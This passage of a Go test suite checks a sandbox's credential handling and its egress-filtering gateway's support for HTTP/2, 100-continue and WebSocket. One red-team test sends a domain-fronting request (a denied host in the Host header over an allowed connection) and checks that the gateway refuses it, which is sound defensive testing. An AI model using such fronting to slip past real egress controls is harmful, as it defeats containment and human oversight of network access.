		t.Errorf("the credential is in the sandbox's checkpoint: %v", hits)
	}
	if len(grepTree(t, filepath.Join(home, "checkpoints", sb), "space-placeholder-github")) == 0 {
		t.Error("control: the placeholder is not found in the checkpoint either, so the grep proves nothing")
	}
	if hits := grepTree(t, home, secret); len(hits) > 0 {
		t.Errorf("the credential is stored in the clear: %v", hits)
	}
	if err := c.DeleteSecret(ctx, "github"); err != nil {
		t.Fatal(err)
	}
}

// grepTree lists the files under dir that contain s.
func grepTree(t *testing.T, dir, s string) []string {
	t.Helper()
	var hits []string
	filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil || !d.Type().IsRegular() {
			return nil
		}
		b, err := os.ReadFile(p)
		if err == nil && bytes.Contains(b, []byte(s)) {
			hits = append(hits, p)
		}
		return nil
	})
	return hits
}

// TestEgressRedTeamProtocols: what clients do through the intercepting gateway works — HTTP/2
// (and fronting over it is refused by :authority), Expect: 100-continue (the 100 comes before
// the body is sent), and a WebSocket upgrade both ways.
func TestEgressRedTeamProtocols(t *testing.T) {
	in := newInternet(t)
	d := startSpacedIn(t, in)
	c := d.Client
	sb := create(t, c, client.CreateSandboxRequest{Template: "base", Network: &client.NetworkSpec{Egress: &client.Egress{Default: "deny", Allow: []string{"allowed.test"}}}}).ID
	h2 := run(t, c, sb, `curl -sS --http2 -w ' proto=%{http_version}' https://allowed.test/h2; echo; curl -sS --http2 -H 'Host: denied.test' -w ' code=%{http_code} proto=%{http_version}' https://allowed.test/h2front`)
	t.Logf("curl: %q %q", h2.Stdout, h2.Stderr)
	if !strings.Contains(h2.Stdout, "internet:"+inetAllowed+":allowed.test\n proto=2") || !in.Saw("sni=allowed.test", "path=/h2 ") {
		t.Errorf("HTTP/2 through the gateway: %+v", h2)
	}
	if !strings.Contains(h2.Stdout, "code=421 proto=2") || in.Saw("path=/h2front") {
		t.Errorf("HTTP/2 with another :authority was not refused: %+v", h2)
	}
	out := run(t, c, sb, `python3 - <<'EOF'
import base64, hashlib, json, os, socket, ssl
res = {}
def conn():
    return ssl.create_default_context().wrap_socket(socket.create_connection(('203.0.113.10', 443), timeout=5), server_hostname='allowed.test')
def head(s):
    data = b''
    while b'\r\n\r\n' not in data:
        b = s.recv(1)
        if not b: break
        data += b
    return data.decode(errors='replace')
def expect():
    s = conn()
    body = b'x' * 5000
    s.sendall(b'POST /upload HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 5000\r\nExpect: 100-continue\r\n\r\n')
    first = head(s)
    if ' 100 ' not in first.split('\r\n')[0]: raise Exception('no 100 Continue before the body: %r' % first)
    s.sendall(body)
    final = head(s)
    return first.split('\r\n')[0] + ' then ' + final.split('\r\n')[0]
def websocket():
    s = conn()
    key = base64.b64encode(os.urandom(16)).decode()
    s.sendall(('GET /ws HTTP/1.1\r\nHost: allowed.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: %s\r\nSec-WebSocket-Version: 13\r\n\r\n' % key).encode())
    h = head(s)
    want = base64.b64encode(hashlib.sha1((key + '258EAFA5-E914-47DA-95CA-C5AB0DC85B11').encode()).digest()).decode()
    if ' 101 ' not in h.split('\r\n')[0] or want not in h: raise Exception('no upgrade: %r' % h)
    s.sendall(b'ping-through-the-gateway')
    got = b''
    while len(got) < 24:
        b = s.recv(100)
        if not b: break
        got += b
    return '101 then echo ' + got.decode(errors='replace')
for name, fn in [('expect', expect), ('websocket', websocket)]:
    try: res[name] = 'ok ' + fn()
    except Exception as e: res[name] = 'error ' + repr(e)[:300]
print(json.dumps(res))
EOF`)
	var got map[string]string
	if err := json.Unmarshal([]byte(out.Stdout), &got); err != nil {
		t.Fatalf("client: %v: %+v", err, out)
	}
	t.Logf("%v", got)
	if !strings.HasPrefix(got["expect"], "ok HTTP/1.1 100 Continue then HTTP/1.1 200") || !in.Saw("path=/upload", "body=5000") {
		t.Errorf("Expect: 100-continue: %s", got["expect"])
	}
	if got["websocket"] != "ok 101 then echo ping-through-the-gateway" || !in.Saw("path=/ws") {
		t.Errorf("WebSocket: %s", got["websocket"])
	}
}
